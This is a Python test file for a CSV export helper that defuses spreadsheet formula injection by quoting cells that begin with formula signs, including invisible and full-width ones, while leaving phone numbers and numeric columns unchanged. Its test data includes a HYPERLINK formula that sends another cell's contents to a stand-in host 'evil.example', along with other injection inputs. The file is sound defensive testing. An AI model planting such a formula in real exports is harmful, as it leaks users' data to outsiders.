"""CSV that leaves the house: texts that a spreadsheet would run are guarded, telephone numbers and numbers stay."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pyarrow as pa
import pytest

from basketry.files.spreadsheets import csv_line, escape_formula, escape_formulas

EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
RUN = (
    EVIL,
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "\u00a0=1",
    "\u200b@x",
    "\ufeff+x",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20x",
    " \uff1dx",
    "+1 (212) 555-0143",
    "+12125550143=1",
    "+12125550143\n=1",
    "=",
    "+12",
)
LEFT = ("Jane Roe", "a=b", "+12125550143", "+4930231250", "1-2", "", "'=1", "O'Neil; x", "x\t=1")


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_would_run_is_guarded(text: str) -> None:
    """Whatever it begins with: formula signs, also after blanks that nobody sees and in full width; by value and by column."""
    assert escape_formula(text) == f"'{text}"
    assert escape_formulas(pa.table({"a": [text, None]})).column("a").to_pylist() == [f"'{text}", None]


@pytest.mark.parametrize("text", LEFT)
def test_every_other_text_stays(text: str) -> None:
    """A telephone number as E.164 among them: a dialler reads it."""
    assert escape_formula(text) == text
    assert escape_formulas(pa.table({"a": [text]})).column("a").to_pylist() == [text]


def test_numbers_are_bare_and_texts_are_quoted() -> None:
    """A line read back has the same values; a negative number is no formula."""
    line = csv_line([EVIL, "+12125550143", -1, Decimal("-2.50"), 0.5, None, date(2026, 1, 2), True, 'a "b", c'])
    assert line.endswith("\r\n") and ',"+12125550143",-1,-2.50,0.5,,2026-01-02,True,' in line
    assert next(csv.reader(io.StringIO(line)))[0] == f"'{EVIL}"
    assert next(csv.reader(io.StringIO(line)))[-1] == 'a "b", c'


def test_columns_that_are_no_text_are_left_alone() -> None:
    """Numbers keep their type."""
    table = pa.table({"a": [-1, None], "b": ["=1", "x"]})
    assert escape_formulas(table).schema == table.schema
    assert escape_formulas(table).to_pylist() == [{"a": -1, "b": "'=1"}, {"a": None, "b": "x"}]
